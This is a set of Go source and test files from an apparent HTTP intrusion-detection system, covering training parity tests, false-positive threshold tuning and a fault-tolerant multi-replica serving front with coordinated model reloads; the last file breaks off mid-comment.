// TestTrainParallelParity is the PR's acceptance test: core.Train at any
// Parallelism must produce a model bit-identical to the serial path.
// Every parallel stage — sharded feature extraction, the partitioned
// distance fills, the ownership-partitioned moment accumulation, the
// concurrent per-bicluster PCG — writes disjoint output slots with the
// serial per-entry float accumulation order, so == holds on every weight,
// threshold, and feature.
func TestTrainParallelParity(t *testing.T) {
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 41).Requests(500)
	benign := traffic.NewGenerator(42).Requests(700)

	serial, err := Train(attacks, benign, Config{Parallelism: 1})
	if err != nil {
		t.Fatalf("serial Train: %v", err)
	}
	probes := append(
		attackgen.NewGenerator(attackgen.SQLMapProfile(), 43).Requests(150),
		traffic.NewGenerator(44).Requests(300)...,
	)
	for _, workers := range []int{2, 8, 0} {
		par, err := Train(attacks, benign, Config{Parallelism: workers})
		if err != nil {
			t.Fatalf("Parallelism=%d Train: %v", workers, err)
		}
		requireIdenticalModels(t, labelFor(workers), serial, par, probes)
	}
}

// TestTrainParallelDenseParity runs the same check on the dense reference
// backing, so both backings are pinned across both axes (backing × workers).
func TestTrainParallelDenseParity(t *testing.T) {
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 45).Requests(300)
	benign := traffic.NewGenerator(46).Requests(400)

	serial, err := Train(attacks, benign, Config{Parallelism: 1, DenseBacking: true})
	if err != nil {
		t.Fatalf("serial Train: %v", err)
	}
	par, err := Train(attacks, benign, Config{Parallelism: 4, DenseBacking: true})
	if err != nil {
		t.Fatalf("parallel Train: %v", err)
	}
	probes := traffic.NewGenerator(47).Requests(200)
	requireIdenticalModels(t, "dense-parallel-4", serial, par, probes)
}

func labelFor(workers int) string {
	switch workers {
	case 0:
		return "parallel-gomaxprocs"
	case 2:
		return "parallel-2"
	case 8:
		return "parallel-8"
	default:
		return "parallel"
	}
}
