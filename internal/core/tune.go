package core

import (
	"errors"
	"fmt"
	"sort"

	"psigene/internal/httpx"
)

// TuneThresholds automates what the paper describes an administrator doing
// with Figure 3's ROC curves ("with an idea of a desired TPR and FPR, a
// security administrator can visually, and approximately, decide which
// signatures to enable or disable"): for every signature it scores a
// labeled validation set, then picks the lowest threshold whose per-
// signature false-positive rate stays within the budget — maximizing each
// signature's recall subject to the FPR constraint. Signatures that cannot
// meet the budget at any threshold are effectively disabled (threshold
// above every benign score and every attack score they produce).
//
// The chosen thresholds are applied to the model and returned in signature
// order.
func (m *Model) TuneThresholds(validation []httpx.Request, targetFPR float64) ([]float64, error) {
	if targetFPR < 0 || targetFPR >= 1 {
		return nil, fmt.Errorf("core: target FPR %v out of range [0, 1)", targetFPR)
	}
	var nBenign, nAttack int
	for _, r := range validation {
		if r.Malicious {
			nAttack++
		} else {
			nBenign++
		}
	}
	if nBenign == 0 || nAttack == 0 {
		return nil, errors.New("core: validation set needs both attack and benign requests")
	}

	vectors := make([][]float64, len(validation))
	for i, r := range validation {
		vectors[i] = m.Vector(r)
	}

	maxFP := int(targetFPR * float64(nBenign))
	out := make([]float64, len(m.Signatures))
	for si, s := range m.Signatures {
		var benignScores []float64
		for i, r := range validation {
			if !r.Malicious {
				benignScores = append(benignScores, s.Probability(vectors[i]))
			}
		}
		sort.Float64s(benignScores)
		// The threshold must exceed all but the top maxFP benign scores.
		// Index of the first benign score allowed to alert:
		cut := len(benignScores) - maxFP
		var threshold float64
		switch {
		case cut <= 0:
			threshold = 0 // budget admits every benign request (degenerate)
		case cut >= len(benignScores):
			threshold = nextAbove(benignScores[len(benignScores)-1])
		default:
			threshold = nextAbove(benignScores[cut-1])
		}
		if threshold > 1 {
			threshold = 1.0000001 // unreachable: signature disabled
		}
		s.Threshold = threshold
		out[si] = threshold
	}
	return out, nil
}

// nextAbove returns a value strictly greater than x by a hair, so a
// threshold of nextAbove(worst allowed benign score) excludes that score.
func nextAbove(x float64) float64 {
	return x + 1e-9
}
