package core

import (
	"reflect"
	"testing"
	"testing/quick"

	"psigene/internal/attackgen"
	"psigene/internal/httpx"
	"psigene/internal/traffic"
)

// fastpathProbes is the probe mix the prefilter parity tests replay:
// attack traffic from two tool profiles plus a benign majority, so both
// the gated and the always-run regex sets are exercised.
func fastpathProbes() []httpx.Request {
	probes := attackgen.NewGenerator(attackgen.SQLMapProfile(), 31).Requests(150)
	probes = append(probes, attackgen.NewGenerator(attackgen.ArachniProfile(), 32).Requests(150)...)
	return append(probes, traffic.NewGenerator(33).Requests(500)...)
}

// TestPrefilterTrainParity trains the full pipeline twice — literal
// prefilter on (the default) and off — and demands bit-identical models.
// The prefilter only decides which regexes run; every regex it skips is
// one that cannot match, so the extracted matrices are equal and training
// is equal to the last bit.
func TestPrefilterTrainParity(t *testing.T) {
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 41).Requests(600)
	benign := traffic.NewGenerator(42).Requests(800)

	gated, err := Train(attacks, benign, Config{})
	if err != nil {
		t.Fatalf("Train (prefilter on): %v", err)
	}
	if !gated.PrefilterEnabled() {
		t.Fatal("default-config model does not have the prefilter enabled")
	}
	plain, err := Train(attacks, benign, Config{DisablePrefilter: true})
	if err != nil {
		t.Fatalf("Train (prefilter off): %v", err)
	}
	if plain.PrefilterEnabled() {
		t.Fatal("DisablePrefilter model still has the prefilter enabled")
	}
	requireIdenticalModels(t, "prefilter-vs-plain", gated, plain, fastpathProbes())
}

// TestPrefilterServeParity flips the prefilter on one trained model and
// pins every serving product — sparse vectors, probabilities, verdicts —
// to be bit-identical with it on and off.
func TestPrefilterServeParity(t *testing.T) {
	m := smallModel(t)
	defer m.SetPrefilter(true)
	for _, req := range fastpathProbes() {
		m.SetPrefilter(true)
		onCols, onVals := m.SparseVector(req)
		onProbs := m.Probabilities(req)
		onVerdict := m.Inspect(req)

		m.SetPrefilter(false)
		offCols, offVals := m.SparseVector(req)
		offProbs := m.Probabilities(req)
		offVerdict := m.Inspect(req)

		if !reflect.DeepEqual(onCols, offCols) || !reflect.DeepEqual(onVals, offVals) {
			t.Fatalf("sparse vectors differ on %q:\non  %v %v\noff %v %v",
				req.Payload(), onCols, onVals, offCols, offVals)
		}
		if !reflect.DeepEqual(onProbs, offProbs) {
			t.Fatalf("probabilities differ on %q: on %v, off %v", req.Payload(), onProbs, offProbs)
		}
		if !reflect.DeepEqual(onVerdict, offVerdict) {
			t.Fatalf("verdicts differ on %q: on %+v, off %+v", req.Payload(), onVerdict, offVerdict)
		}
	}
}

// TestPrefilterServeParityQuick drives the on/off verdict parity over
// random byte strings — the same adversarial idiom the normalize and CSR
// parity suites use. Random bytes stress the unicode folding edges of the
// literal scanner (ſ, Kelvin sign, invalid UTF-8) far harder than
// generated traffic does.
func TestPrefilterServeParityQuick(t *testing.T) {
	m := smallModel(t)
	defer m.SetPrefilter(true)
	f := func(raw []byte, body []byte) bool {
		req := httpx.Request{RawQuery: string(raw), Body: string(body)}
		m.SetPrefilter(true)
		on := m.Inspect(req)
		m.SetPrefilter(false)
		off := m.Inspect(req)
		return reflect.DeepEqual(on, off)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1500}); err != nil {
		t.Fatal(err)
	}
}

// TestSessionMatchesInspect pins Session.Inspect to Model.Inspect verdict
// for verdict: a checked-out session is a pure scratch-reuse optimization.
func TestSessionMatchesInspect(t *testing.T) {
	m := smallModel(t)
	sess := m.NewSession()
	defer sess.Close()
	for _, req := range fastpathProbes() {
		want := m.Inspect(req)
		got := sess.Inspect(req)
		if !reflect.DeepEqual(want, got) {
			t.Fatalf("session verdict differs on %q: model %+v, session %+v", req.Payload(), want, got)
		}
	}
}

// TestInspectBenignZeroAlloc pins the tentpole allocation contract. All
// state the fast path owns — payload view, normalization buffers, feature
// scratch, signature walk — is pooled, so the only possible allocation on
// a non-alerting request is the 2-int match-position slice Go's regexp
// engine allocates internally per successful match of a non-literal
// pattern (pure-literal features are counted engine-free). The test pins
// both halves: requests whose firing features are all literal-counted
// inspect with exactly zero allocations, and the full benign mix stays
// under the engine's per-match bound.
func TestInspectBenignZeroAlloc(t *testing.T) {
	m := smallModel(t)
	sess := m.NewSession()
	defer sess.Close()

	var quiet, zero []httpx.Request
	for _, req := range traffic.NewGenerator(51).Requests(300) {
		if sess.Inspect(req).Alert {
			continue
		}
		quiet = append(quiet, req)
		if testing.AllocsPerRun(5, func() { sess.Inspect(req) }) == 0 {
			zero = append(zero, req)
		}
	}
	if len(quiet) < 100 {
		t.Fatalf("only %d of 300 benign probes are non-alerting; corpus unusable for the alloc pin", len(quiet))
	}
	// A meaningful share of generated benign traffic must take the fully
	// allocation-free path, and re-measuring that set must stay at zero —
	// any pooled buffer regressing to a per-call allocation trips this.
	if len(zero) < len(quiet)/20 {
		t.Fatalf("only %d of %d non-alerting probes inspect allocation-free", len(zero), len(quiet))
	}
	if allocs := testing.AllocsPerRun(20, func() {
		for _, req := range zero {
			sess.Inspect(req)
		}
	}); allocs != 0 {
		t.Fatalf("steady-state quiet Inspect allocated %.1f objects per pass of %d requests", allocs, len(zero))
	}
	// Full benign mix: average allocations per request may not exceed the
	// regexp engine's own per-match cost by more than a small margin.
	perPass := testing.AllocsPerRun(20, func() {
		for _, req := range quiet {
			sess.Inspect(req)
		}
	})
	if perReq := perPass / float64(len(quiet)); perReq > 4 {
		t.Fatalf("benign Inspect averages %.2f allocs/request; fast-path state is leaking per call", perReq)
	}
}
