package core

import (
	"testing"

	"psigene/internal/attackgen"
	"psigene/internal/httpx"
	"psigene/internal/ids"
	"psigene/internal/traffic"
)

func tuningSets() (validation, testAttacks, testBenign []httpx.Request) {
	validation = append(
		attackgen.NewGenerator(attackgen.SQLMapProfile(), 201).Requests(400),
		traffic.NewGenerator(202).Requests(4000)...)
	testAttacks = attackgen.NewGenerator(attackgen.SQLMapProfile(), 203).Requests(400)
	testBenign = traffic.NewGenerator(204).Requests(4000)
	return
}

func TestTuneThresholdsMeetsBudget(t *testing.T) {
	// A dedicated model: tuning mutates thresholds.
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 205).Requests(1000)
	benign := traffic.NewGenerator(206).Requests(2500)
	m, err := Train(attacks, benign, Config{})
	if err != nil {
		t.Fatal(err)
	}
	validation, testAttacks, testBenign := tuningSets()

	const budget = 0.001
	thresholds, err := m.TuneThresholds(validation, budget)
	if err != nil {
		t.Fatalf("TuneThresholds: %v", err)
	}
	if len(thresholds) != len(m.Signatures) {
		t.Fatalf("got %d thresholds for %d signatures", len(thresholds), len(m.Signatures))
	}
	for i, s := range m.Signatures {
		if s.Threshold != thresholds[i] {
			t.Fatal("thresholds not applied to the model")
		}
	}
	// On held-out benign traffic the tuned model stays near the budget
	// (leave generous slack: held-out differs from validation).
	r := ids.Evaluate(m, testBenign)
	if r.FPR() > budget*float64(len(m.Signatures))*3 {
		t.Fatalf("tuned FPR %.5f far above budget %.5f", r.FPR(), budget)
	}
	// And still detects.
	ra := ids.Evaluate(m, testAttacks)
	if ra.TPR() < 0.5 {
		t.Fatalf("tuned TPR %.3f collapsed", ra.TPR())
	}
}

func TestTuneThresholdsLooseBudgetRaisesRecall(t *testing.T) {
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 207).Requests(800)
	benign := traffic.NewGenerator(208).Requests(2000)
	validation, testAttacks, _ := tuningSets()

	strict, err := Train(attacks, benign, Config{})
	if err != nil {
		t.Fatal(err)
	}
	loose, err := Train(attacks, benign, Config{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := strict.TuneThresholds(validation, 0.0001); err != nil {
		t.Fatal(err)
	}
	if _, err := loose.TuneThresholds(validation, 0.01); err != nil {
		t.Fatal(err)
	}
	rs := ids.Evaluate(strict, testAttacks)
	rl := ids.Evaluate(loose, testAttacks)
	if rl.TP < rs.TP {
		t.Fatalf("looser budget detected less: %d < %d", rl.TP, rs.TP)
	}
}

func TestTuneThresholdsErrors(t *testing.T) {
	m := smallModel(t)
	if _, err := m.TuneThresholds(nil, 0.01); err == nil {
		t.Fatal("empty validation: want error")
	}
	benignOnly := traffic.NewGenerator(1).Requests(50)
	if _, err := m.TuneThresholds(benignOnly, 0.01); err == nil {
		t.Fatal("single-class validation: want error")
	}
	mixed := append(benignOnly, attackgen.NewGenerator(attackgen.SQLMapProfile(), 2).Requests(50)...)
	if _, err := m.TuneThresholds(mixed, -0.1); err == nil {
		t.Fatal("negative budget: want error")
	}
	if _, err := m.TuneThresholds(mixed, 1.0); err == nil {
		t.Fatal("budget of 1: want error")
	}
}
