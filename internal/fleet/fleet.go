// Package fleet is fault-tolerant multi-replica serving for psigened: a
// thin front that spreads traffic across N in-process gateway replicas and
// keeps the fleet answering — and answering consistently — while
// individual replicas fail, get ejected, recover, and reload models.
//
// One gateway is a single point of failure for both availability and model
// consistency; a fleet is only trustworthy if it provably serves the same
// verdicts as one healthy instance. The design therefore leans entirely on
// deterministic, count-driven machinery:
//
//   - Routing: a consistent-hash ring (resilience.HashKey over caller
//     keys) with virtual nodes. Routing is caller-affine, so a caller's
//     per-client admission state (rate tiers, penalty box) lives on one
//     replica instead of being diluted N ways.
//   - Health: each replica has a request-count resilience.Breaker fed by
//     passive dispatch failures and by active readyz probes that run every
//     ProbeEvery dispatches (no timers — cadence is counted, not clocked).
//     Threshold consecutive failures eject the replica; while ejected its
//     keys route to the next ring replica; after cooldown skipped
//     dispatches one live request is admitted as the readmission probe.
//   - Failover: when a dispatch fails without a verdict (replica down, or
//     a panic before anything was written), the request is retried exactly
//     once on the next distinct ring replica after a seeded full-jitter
//     backoff. A replica that rendered any verdict — even a 5xx — is never
//     retried: the upstream may already have been contacted, and replaying
//     a request whose verdict exists would both double-serve it and break
//     the fleet-equals-single-instance verdict guarantee.
//   - Reload: model swaps are a two-phase fanout (see reload.go): probe
//     the candidate on every replica, commit on all only if every probe
//     passed, roll back to the saved serving state on any partial failure.
//     Commits exclude in-flight requests, so no request ever observes a
//     mixed-generation fleet.
//
// Everything is a pure function of (seed, request sequence, injected
// hooks): the package sits in psigenelint's kernel set, and the
// fleet-chaos suite replays bit-identical transcripts from a seed while
// asserting the fleet's verdict multiset equals a single-instance run.
package fleet

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"psigene/internal/gateway"
	"psigene/internal/ids"
	"psigene/internal/resilience"
)

// backend is the slice of *gateway.Gateway the front drives, as an
// interface so fleet tests can stand in deliberately failing replicas
// without constructing a full gateway.
type backend interface {
	http.Handler
	Ready() bool
	ServingModel() (det ids.Detector, gen uint64, version, hash string)
	ProbeDetector(det ids.Detector) error
	SwapTagged(det ids.Detector, version, hash string) (uint64, error)
	Snapshot() gateway.Snapshot
	Drain(ctx context.Context) error
}

// Options configures a Front. The zero value of every field has a safe
// default.
type Options struct {
	// Seed feeds the ring layout, caller hashing and retry jitter; same
	// seed, same routing. Default 1.
	Seed int64
	// VirtualNodes is the ring points per replica. Default 32.
	VirtualNodes int
	// KeyFunc derives the routing key from a request. The default keys by
	// client IP (RemoteAddr minus the port). Deployments that key
	// admission by a header should route by the same key (see HeaderKey)
	// so caller affinity and admission identity agree.
	KeyFunc func(*http.Request) string
	// BreakerThreshold is the consecutive dispatch failures that eject a
	// replica; BreakerCooldown is the routed-past dispatches an ejected
	// replica sits out before one live request is admitted as its
	// readmission probe. Defaults 3 and 8.
	BreakerThreshold, BreakerCooldown int
	// ProbeEvery is the active health-probe cadence in dispatches: on
	// every ProbeEvery-th request, every replica's readiness is checked
	// and a dead or not-ready replica's breaker is fed one failure, so a
	// draining or killed replica is ejected without waiting for
	// client-visible failures. Negative disables active probing.
	// Default 64.
	ProbeEvery int
	// RetryBase and RetryMax bound the seeded full-jitter backoff taken
	// before the single failover retry. Defaults 2ms and 20ms.
	RetryBase, RetryMax time.Duration
	// Sleep performs the failover backoff; injectable so the chaos suite
	// runs with zero wall-clock sleeps. Default time.Sleep.
	Sleep func(time.Duration)
	// RetryAfter is the Retry-After value, in seconds, on fleet 503s.
	// Default 1.
	RetryAfter int
	// ProbeHook, when non-nil, runs after a replica's own probe during
	// the first reload phase and can veto it — the deterministic
	// fault-injection seam the chaos suite uses to force a single replica
	// to fail its probe (a replica-local failure mode: exhausted memory,
	// a wedged runtime) without faking a corrupt model.
	ProbeHook func(replica int, det ids.Detector) error
	// CommitHook, when non-nil, runs before a replica's commit during the
	// second reload phase and can fail it — the seam that forces the
	// partial-failure rollback path.
	CommitHook func(replica int) error
}

func (o *Options) fill() {
	if o.Seed == 0 {
		o.Seed = 1
	}
	if o.VirtualNodes <= 0 {
		o.VirtualNodes = 32
	}
	if o.KeyFunc == nil {
		o.KeyFunc = ClientIPKey
	}
	if o.BreakerThreshold <= 0 {
		o.BreakerThreshold = 3
	}
	if o.BreakerCooldown <= 0 {
		o.BreakerCooldown = 8
	}
	if o.ProbeEvery < 0 {
		o.ProbeEvery = 0
	} else if o.ProbeEvery == 0 {
		o.ProbeEvery = 64
	}
	if o.RetryBase <= 0 {
		o.RetryBase = 2 * time.Millisecond
	}
	if o.RetryMax < o.RetryBase {
		o.RetryMax = 10 * o.RetryBase
	}
	if o.Sleep == nil {
		o.Sleep = time.Sleep
	}
	if o.RetryAfter <= 0 {
		o.RetryAfter = 1
	}
}

// ClientIPKey is the default routing key: the client IP with the port
// stripped — the same identity per-client admission falls back to, so the
// default fleet keeps limiter state coherent without configuration.
func ClientIPKey(r *http.Request) string {
	if host, _, err := net.SplitHostPort(r.RemoteAddr); err == nil {
		return host
	}
	return r.RemoteAddr
}

// HeaderKey routes by a request header (an API key validated upstream),
// falling back to the client IP when the header is absent — the fleet
// analogue of admission's header-first identity.
func HeaderKey(name string) func(*http.Request) string {
	return func(r *http.Request) string {
		if v := r.Header.Get(name); v != "" {
			return v
		}
		return ClientIPKey(r)
	}
}

// replica is one gateway instance plus its fleet-side health state.
type replica struct {
	id int
	gw backend

	// down simulates a dead process: dispatches fail instantly, before
	// any verdict work. Kill/Revive flip it — the chaos suite's kill
	// switch and an operator's maintenance toggle.
	down atomic.Bool

	// mu guards the health breaker (resilience.Breaker is single-threaded
	// by contract).
	mu      sync.Mutex
	breaker *resilience.Breaker

	served, failures        atomic.Int64
	ejections, readmissions atomic.Int64
}

// allow reports whether routing may dispatch to this replica. While the
// breaker is open it consumes one cooldown tick; when the ticks are spent
// the next request through here is the readmission probe.
func (rep *replica) allow() bool {
	rep.mu.Lock()
	defer rep.mu.Unlock()
	return rep.breaker.Allow()
}

// success records a served request; a half-open probe success readmits the
// replica.
func (rep *replica) success() {
	rep.served.Add(1)
	rep.mu.Lock()
	readmitted := rep.breaker.State() == resilience.BreakerHalfOpen
	rep.breaker.Success()
	rep.mu.Unlock()
	if readmitted {
		rep.readmissions.Add(1)
	}
}

// failure records a dispatch failure; threshold consecutive failures (or
// one failed readmission probe) eject the replica.
func (rep *replica) failure() {
	rep.failures.Add(1)
	rep.mu.Lock()
	tripped := rep.breaker.Failure()
	rep.mu.Unlock()
	if tripped {
		rep.ejections.Add(1)
	}
}

// breakerState reads the breaker position under its lock.
func (rep *replica) breakerState() resilience.BreakerSnapshot {
	rep.mu.Lock()
	defer rep.mu.Unlock()
	return rep.breaker.Snapshot()
}

// fleetStats is the atomic counter block behind the front's /-/statz.
type fleetStats struct {
	total, failovers, unavailable atomic.Int64
	probeSweeps                   atomic.Int64
	reloads, reloadFailures       atomic.Int64
	rollbacks, rollbackFailures   atomic.Int64
}

// Front is the fleet front: an http.Handler that routes every request to
// one replica (with at most one failover retry) and the control surface
// for coordinated reloads. Create with New.
type Front struct {
	opts     Options
	replicas []*replica
	ring     ring

	// gen counts successful coordinated reloads, starting at 1 for the
	// construction-time model. Stamped on X-Psigene-Fleet so any response
	// names the fleet generation that served it.
	gen atomic.Uint64

	// serveMu is the reload barrier: requests hold it shared, the commit
	// phase of a coordinated swap holds it exclusively. That exclusion is
	// the "no request observes a mixed generation" guarantee — a request
	// either runs entirely before a fleet-wide swap or entirely after it,
	// never against a fleet whose replicas disagree about the model.
	serveMu sync.RWMutex

	// reloadMu serializes coordinated reloads, same role as the
	// gateway's: concurrent fanouts must not interleave their phases.
	reloadMu sync.Mutex

	// dispatches counts requests for the active-probe cadence.
	dispatches atomic.Int64

	// rngMu guards the jitter rng (SplitMix64 is single-threaded). The
	// draw happens under the lock; the sleep itself never does.
	rngMu sync.Mutex
	rng   *resilience.SplitMix64

	stats fleetStats
}

// New builds a front over the given gateway replicas.
func New(replicas []*gateway.Gateway, opts Options) (*Front, error) {
	if len(replicas) == 0 {
		return nil, fmt.Errorf("fleet: need at least one replica")
	}
	backends := make([]backend, len(replicas))
	for i, g := range replicas {
		if g == nil {
			return nil, fmt.Errorf("fleet: replica %d is nil", i)
		}
		backends[i] = g
	}
	return newFront(backends, opts), nil
}

// newFront is the interface-typed constructor the tests use directly.
func newFront(backends []backend, opts Options) *Front {
	opts.fill()
	f := &Front{
		opts:     opts,
		replicas: make([]*replica, len(backends)),
		ring:     buildRing(opts.Seed, len(backends), opts.VirtualNodes),
		rng:      resilience.NewSplitMix64(uint64(opts.Seed)),
	}
	for i, b := range backends {
		f.replicas[i] = &replica{
			id:      i,
			gw:      b,
			breaker: resilience.NewBreaker(opts.BreakerThreshold, opts.BreakerCooldown),
		}
	}
	f.gen.Store(1)
	return f
}

// Replicas returns the fleet size.
func (f *Front) Replicas() int { return len(f.replicas) }

// Generation returns the fleet generation: 1 at construction, +1 per
// successful coordinated reload. Rolled-back fanouts do not advance it.
func (f *Front) Generation() uint64 { return f.gen.Load() }

// Kill marks replica i dead: every dispatch to it fails before any verdict
// work, exactly like a connection refused by a crashed process. The chaos
// suite's kill switch and an operator's maintenance toggle.
func (f *Front) Kill(i int) error {
	if i < 0 || i >= len(f.replicas) {
		return fmt.Errorf("fleet: no replica %d", i)
	}
	f.replicas[i].down.Store(true)
	return nil
}

// Revive clears a Kill. The replica does not rejoin instantly: its breaker
// is still open from the failures that ejected it, so it re-earns traffic
// through the normal cooldown → readmission-probe path.
func (f *Front) Revive(i int) error {
	if i < 0 || i >= len(f.replicas) {
		return fmt.Errorf("fleet: no replica %d", i)
	}
	f.replicas[i].down.Store(false)
	return nil
}

// Drain drains every replica in order. The first error wins but every
// replica is still drained — shutdown must not strand later replicas
// because an earlier one timed out.
func (f *Front) Drain(ctx context.Context) error {
	var first error
	for _, rep := range f.replicas {
		if err := rep.gw.Drain(ctx); err != nil && first == nil {
			first = fmt.Errorf("fleet: drain replica %d: %w", rep.id, err)
		}
	}
	return first
}

// dispatchOutcome classifies one attempt against one replica.
type dispatchOutcome int

const (
	// servedOK: the replica rendered a verdict (any status — a 403 block
	// or an upstream 502 is still a verdict).
	servedOK dispatchOutcome = iota
	// failedClean: the replica failed before writing anything — down, or
	// a panic with nothing on the wire. Safe to retry elsewhere.
	failedClean
	// failedDirty: the replica failed after bytes reached the client.
	// Never retried: the response is already partially committed.
	failedDirty
)

// ServeHTTP routes the request to its home replica with at most one
// failover retry along the ring. Held shared against the reload barrier
// for its whole duration.
func (f *Front) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.serveMu.RLock()
	defer f.serveMu.RUnlock()

	f.stats.total.Add(1)
	n := f.dispatches.Add(1)
	if f.opts.ProbeEvery > 0 && n%int64(f.opts.ProbeEvery) == 0 {
		f.activeProbe()
	}

	h := resilience.HashKey(f.opts.Seed, f.opts.KeyFunc(r))
	order := f.ring.walk(h, make([]int, 0, len(f.replicas)))

	attempts := 0
	for _, id := range order {
		if attempts >= 2 {
			break
		}
		rep := f.replicas[id]
		if !rep.allow() {
			continue
		}
		if attempts > 0 {
			f.stats.failovers.Add(1)
			f.opts.Sleep(f.jitter())
		}
		attempts++
		switch f.dispatch(rep, w, r) {
		case servedOK:
			rep.success()
			return
		case failedDirty:
			// The client already holds part of a response; surfacing the
			// truncation honestly beats replaying the request elsewhere.
			rep.failure()
			return
		case failedClean:
			rep.failure()
		}
	}
	// Every admitted attempt failed clean, or no replica would accept the
	// key at all (fleet-wide ejection): shed with Retry-After, the same
	// load signal a single overloaded gateway sends.
	f.stats.unavailable.Add(1)
	w.Header().Set("Retry-After", strconv.Itoa(f.opts.RetryAfter))
	http.Error(w, "fleet: no replica available", http.StatusServiceUnavailable)
}

// dispatch runs one attempt against one replica, classifying the result
// by whether a verdict reached the wire. A replica panic is contained
// here the same way a detector panic is contained inside the gateway:
// this front must outlive any one replica.
func (f *Front) dispatch(rep *replica, w http.ResponseWriter, r *http.Request) (out dispatchOutcome) {
	if rep.down.Load() {
		return failedClean
	}
	tw := &trackWriter{rw: w}
	defer func() {
		if rec := recover(); rec != nil {
			if tw.wrote {
				out = failedDirty
			} else {
				out = failedClean
			}
		}
	}()
	// Stamped before the dispatch: headers only commit when the replica
	// writes, so a clean failover simply overwrites it.
	w.Header().Set("X-Psigene-Fleet", strconv.Itoa(rep.id)+" "+strconv.FormatUint(f.gen.Load(), 10))
	rep.gw.ServeHTTP(tw, r)
	if !tw.wrote {
		// A handler that returned without writing anything rendered no
		// verdict; treat it like a refused connection.
		return failedClean
	}
	return servedOK
}

// jitter draws the failover backoff: full jitter in [0, RetryBase..RetryMax),
// deterministic in the front's seed. Drawn under the rng lock, slept
// outside it.
func (f *Front) jitter() time.Duration {
	f.rngMu.Lock()
	defer f.rngMu.Unlock()
	return resilience.Backoff(f.rng, f.opts.RetryBase, f.opts.RetryMax, 0)
}

// activeProbe sweeps every replica's readiness and feeds one breaker
// failure per dead or not-ready replica. Failure-only on purpose: a
// passing probe must not reset a closed breaker's strike count or readmit
// a half-open replica — readmission is earned by a real served request.
func (f *Front) activeProbe() {
	f.stats.probeSweeps.Add(1)
	for _, rep := range f.replicas {
		if rep.down.Load() || !rep.gw.Ready() {
			rep.failure()
		}
	}
}

// trackWriter records whether the wrapped writer committed any bytes or
// headers — the line between a retryable clean failure and a response the
// client already saw part of.
type trackWriter struct {
	rw     http.ResponseWriter
	wrote  bool
	status int
}

func (t *trackWriter) Header() http.Header { return t.rw.Header() }

func (t *trackWriter) WriteHeader(code int) {
	t.wrote = true
	t.status = code
	t.rw.WriteHeader(code)
}

func (t *trackWriter) Write(b []byte) (int, error) {
	if !t.wrote {
		t.wrote = true
		t.status = http.StatusOK
	}
	return t.rw.Write(b)
}
