package fleet

import (
	"fmt"

	"psigene/internal/core"
	"psigene/internal/ids"
)

// ReloadAll loads a model — a single file or a hash-verified artifact
// directory, see core.LoadAny — and installs it fleet-wide through the
// two-phase protocol. Returns the new fleet generation on success; every
// failure path leaves all replicas serving exactly what they were.
func (f *Front) ReloadAll(path string) (uint64, error) {
	m, man, err := core.LoadAny(path)
	if err != nil {
		f.stats.reloadFailures.Add(1)
		return 0, fmt.Errorf("fleet: reload rejected: %w", err)
	}
	return f.SwapAllTagged(m, man.Version, man.ModelSHA256)
}

// SwapAllTagged installs det on every replica or on none — the
// single-gateway validate-probe-swap invariant extended across the fleet.
//
// Phase 1 (probe): every replica probes the candidate (plus the ProbeHook
// seam). Any failure rejects the candidate fleet-wide before any replica
// has swapped, so a candidate that would be refused anywhere is refused
// everywhere. Sensor fleets that deploy signatures inconsistently silently
// reopen the holes the signatures closed; probing everywhere first is what
// rules that out.
//
// Phase 2 (commit): under the exclusive serve barrier — no request is in
// flight and none can start — save each replica's serving state, then swap
// each replica (CommitHook seam first). On a partial failure the committed
// replicas are rolled back to their saved state, so the barrier is
// released only ever onto a uniform fleet.
func (f *Front) SwapAllTagged(det ids.Detector, version, hash string) (uint64, error) {
	f.reloadMu.Lock()
	defer f.reloadMu.Unlock()
	if det == nil {
		f.stats.reloadFailures.Add(1)
		return 0, fmt.Errorf("fleet: reload rejected: nil detector")
	}

	// Phase 1: probe everywhere, commit nowhere. Runs outside the serve
	// barrier — probing is read-only, so traffic keeps flowing while the
	// candidate is vetted N times.
	for _, rep := range f.replicas {
		if err := rep.gw.ProbeDetector(det); err != nil {
			f.stats.reloadFailures.Add(1)
			return 0, fmt.Errorf("fleet: replica %d probe: %w", rep.id, err)
		}
		if f.opts.ProbeHook != nil {
			if err := f.opts.ProbeHook(rep.id, det); err != nil {
				f.stats.reloadFailures.Add(1)
				return 0, fmt.Errorf("fleet: replica %d probe: %w", rep.id, err)
			}
		}
	}

	// Phase 2: commit under the serve barrier so no request ever runs
	// against a half-swapped fleet.
	f.serveMu.Lock()
	defer f.serveMu.Unlock()

	type saved struct {
		det           ids.Detector
		version, hash string
	}
	prev := make([]saved, len(f.replicas))
	for i, rep := range f.replicas {
		d, _, v, h := rep.gw.ServingModel()
		prev[i] = saved{det: d, version: v, hash: h}
	}

	for i, rep := range f.replicas {
		var err error
		if f.opts.CommitHook != nil {
			err = f.opts.CommitHook(rep.id)
		}
		if err == nil {
			_, err = rep.gw.SwapTagged(det, version, hash)
		}
		if err == nil {
			continue
		}

		// Partial failure: unwind replicas 0..i-1 to their saved serving
		// state. Rollbacks route through SwapTagged too, so even the
		// unwind path honors probe-before-swap.
		f.stats.reloadFailures.Add(1)
		f.stats.rollbacks.Add(1)
		for j := i - 1; j >= 0; j-- {
			if _, rbErr := f.replicas[j].gw.SwapTagged(prev[j].det, prev[j].version, prev[j].hash); rbErr != nil {
				// A replica that cannot restore its own previous model is
				// stranded on the new one — the single state this design
				// must never serve from. Eject it outright: serving
				// nothing beats serving a different signature set than
				// the rest of the fleet.
				f.stats.rollbackFailures.Add(1)
				f.replicas[j].down.Store(true)
			}
		}
		return 0, fmt.Errorf("fleet: replica %d commit: %w", rep.id, err)
	}

	f.stats.reloads.Add(1)
	return f.gen.Add(1), nil
}
