package fleet

// Fleet chaos suite: the acceptance proof for fleet mode. A seeded
// faultify storm runs against both one gateway and a three-replica fleet
// fed the identical request sequence; mid-storm a replica is killed,
// ejected, revived and readmitted, and the model is reloaded through the
// coordinated fanout — including one forced probe failure and one forced
